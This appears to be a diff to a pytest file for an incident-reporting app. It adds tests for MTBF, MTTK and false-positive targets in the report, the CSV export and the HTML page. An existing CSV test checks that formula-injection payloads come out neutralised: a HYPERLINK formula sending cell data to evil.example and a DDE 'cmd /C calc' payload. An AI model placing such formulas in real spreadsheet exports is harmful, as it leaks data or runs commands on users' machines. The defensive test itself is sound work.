@@ -17,10 +17,12 @@ Range: Mon 2026-03-02 .. Sun 2026-03-15 (two weeks, UTC).
 
 import csv
 import io
+import re
 from datetime import UTC, date, datetime, timedelta
 
 import pytest
 
+from incidents import catalog
 from incidents.models import Incident, Service, Severity
 from postmortems import reports
 from postmortems.models import ActionItem, Postmortem, PostmortemTemplate
@@ -115,9 +117,9 @@ def test_weekly_counts_by_severity_and_service(fixture_incidents):
 def test_mtbf_per_service(fixture_incidents):
     report = reports.compute(RANGE, viewer=None)
     assert report.mtbf == [
-        {"service": "API", "incidents": 3, "mtbf": 603000.0},       # (03-15 23:00 - 03-02 00:00) / 2 = 167.5 h
-        {"service": "Database", "incidents": 3, "mtbf": 383400.0},  # (03-13 09:00 - 03-04 12:00) / 2 = 106.5 h
-    ]
+        {"service": "API", "incidents": 3, "mtbf": 603000.0, "ok": False},       # (03-15 23:00 - 03-02 00:00) / 2 = 167.5 h
+        {"service": "Database", "incidents": 3, "mtbf": 383400.0, "ok": False},  # (03-13 09:00 - 03-04 12:00) / 2 = 106.5 h
+    ]  # both under the seeded target of 30 days
 
 
 def test_detection_split_false_positives_and_repeats(fixture_incidents):
@@ -156,9 +158,9 @@ def test_csv_export_matches_the_figures(client, fixture_incidents, follow_up, vi
     assert ["mtta", "P2", "600.0", "seconds", "300.0"] in rows
     assert ["mtti", "P2", "", "seconds", ""] in rows
     assert ["incidents_per_week", "2026-03-09 severity P2", "3", "count", ""] in rows
-    assert ["mtbf", "API", "603000.0", "seconds", ""] in rows
+    assert ["mtbf", "API", "603000.0", "seconds", "2592000.0"] in rows  # target: 30 days
     assert ["alert_share", "alert", "0.5", "ratio", "0.8"] in rows
-    assert ["false_positive_rate", "all", "0.2", "ratio", ""] in rows
+    assert ["false_positive_rate", "all", "0.2", "ratio", "0.1"] in rows  # target: at most 10%
     assert ["repeat_incidents", "API / bad-deploy", "3", "count", ""] in rows
     assert ["action_items", "overdue", "1", "count", ""] in rows
     assert ["postmortems", "on_time", "1", "count", ""] in rows
@@ -172,9 +174,36 @@ def test_csv_export_neutralises_cells_a_spreadsheet_would_run(client, fixture_in
     Incident.objects.filter(root_cause_tag="bad-deploy").update(root_cause_tag="-2+3")
     client.force_login(viewer)
     rows = list(csv.reader(io.StringIO(client.get("/reports/metrics.csv", {"since": "2026-03-02", "until": "2026-03-15"}).content.decode())))
-    assert ["mtbf", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "603000.0", "seconds", ""] in rows
+    assert ["mtbf", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "603000.0", "seconds", "2592000.0"] in rows
     assert any(r[1] == "'@SUM(1+1)*cmd|' /C calc'!A0" for r in rows if r[0] == "mtbf")
     for row in rows:
         for cell in row:
             if cell and cell[0] in "=+-@\t\r":
                 float(cell)  # only numbers may start so (a negative figure)
+
+
+def test_mttk_from_impact_start_and_targets_met_or_missed(fixture_incidents, client, viewer):
+    """MTTK: impact start to declaration (false positives left out); the MTTK, MTTI, MTBF and
+    false-positive targets (the one row, changed through its service) judged on the page, the API
+    and the CSV."""
+    inc = fixture_incidents
+    for name, minutes in (("I2", 2), ("I3", 10), ("I5", 6), ("I4", 30), ("I8", 12), ("I7", 99)):  # I7: a false positive
+        Incident.objects.filter(pk=inc[name].pk).update(started_at=inc[name].declared_at - minutes * M)
+    catalog.metric_targets_update(by=None, mttk_target=15 * M, mtti_target=15 * M, mtbf_target=5 * 24 * H,
+                                  false_positive_rate_target=0.1)
+    report = reports.compute(RANGE, viewer=None)
+    assert report.overall.mttk == 720.0  # (2 + 10 + 6 + 30 + 12) / 5 minutes
+    assert {r.key: r.mttk for r in report.severities}["P1"] == 360.0  # (2 + 10 + 6) / 3 minutes
+    assert report.verdicts == {"mttk": True, "mtti": False, "false_positive_rate": False, "mtbf": False}
+    assert [r["ok"] for r in report.mtbf] == [True, False]  # API 167.5 h >= 5 d; Database 106.5 h < 5 d
+    data = reports.as_dict(report)
+    assert data["targets"]["mttk"] == {"target": 900.0, "met": True}
+    assert data["overall"]["mttk_seconds"] == 720.0
+    assert ["mttk", "all", 720.0, "seconds", 900.0] in reports.csv_rows(report)
+
+    client.force_login(viewer)
+    html = client.get("/reports/metrics/", {"since": "2026-03-02", "until": "2026-03-15"}).content.decode()
+    assert re.search(r'id="stat-mttk"><span class="muted">MTTK</span><strong class="target-met">12 min</strong>', html)
+    assert re.search(r'id="stat-mtti"><span class="muted">MTTI</span><strong class="target-missed">20 min</strong>', html)
+    assert re.search(r'id="stat-false-positives"><span class="muted">False positives</span><strong class="target-missed">', html)
+    assert '<td class="target-met">6 d 23 h</td>' in html
